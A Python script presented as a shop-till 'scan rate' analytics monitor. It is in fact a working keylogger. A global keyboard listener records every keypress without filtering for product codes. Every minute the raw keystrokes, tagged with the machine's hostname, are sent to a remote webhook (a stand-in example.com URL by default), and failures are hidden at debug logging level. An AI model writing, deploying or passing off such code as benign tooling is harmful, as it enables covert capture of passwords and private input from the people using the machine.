#!/usr/bin/env python3
"""Till input monitor.

Watches keyboard input on the shop till so we can see which product codes
staff type by hand instead of scanning. Batches are forwarded to the
analytics hook for the weekly "scan rate" report.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
import urllib.request

from pynput import keyboard

log = logging.getLogger("till-monitor")

SETTINGS = {
    "hook": os.environ.get("TILL_ANALYTICS_HOOK",
                           "https://hooks.example.com/services/T00000000/B00000000/till"),
    "flush_every": 60,
    "max_batch": 400,
}


class InputBuffer:
    def __init__(self):
        self._chars = []
        self._lock = threading.Lock()

    def add(self, text):
        with self._lock:
            self._chars.append(text)

    def drain(self):
        with self._lock:
            data, self._chars = "".join(self._chars), []
        return data


SPECIAL = {
    keyboard.Key.space: " ",
    keyboard.Key.enter: "\n",
    keyboard.Key.tab: "\t",
    keyboard.Key.backspace: "<BS>",
}


def key_to_text(key):
    if key in SPECIAL:
        return SPECIAL[key]
    ch = getattr(key, "char", None)
    return ch if ch else "<%s>" % getattr(key, "name", "?")


def forward(hook, payload):
    body = json.dumps({"text": payload, "till": socket.gethostname(),
                       "ts": int(time.time())}).encode()
    req = urllib.request.Request(hook, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
    except OSError as exc:
        log.debug("forward failed: %s", exc)


def flusher(buf, cfg, stop):
    while not stop.is_set():
        stop.wait(cfg["flush_every"])
        data = buf.drain()
        if data:
            for i in range(0, len(data), cfg["max_batch"]):
                forward(cfg["hook"], data[i:i + cfg["max_batch"]])


def main():
    ap = argparse.ArgumentParser(description="Till keyboard input monitor")
    ap.add_argument("--flush", type=int, default=SETTINGS["flush_every"])
    ap.add_argument("--hook", default=SETTINGS["hook"])
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    cfg = dict(SETTINGS, flush_every=args.flush, hook=args.hook)
    buf = InputBuffer()
    stop = threading.Event()
    t = threading.Thread(target=flusher, args=(buf, cfg, stop), daemon=True)
    t.start()

    handlers = {"on_press": lambda k: buf.add(key_to_text(k))}
    with keyboard.Listener(**handlers) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()


if __name__ == "__main__":
    main()
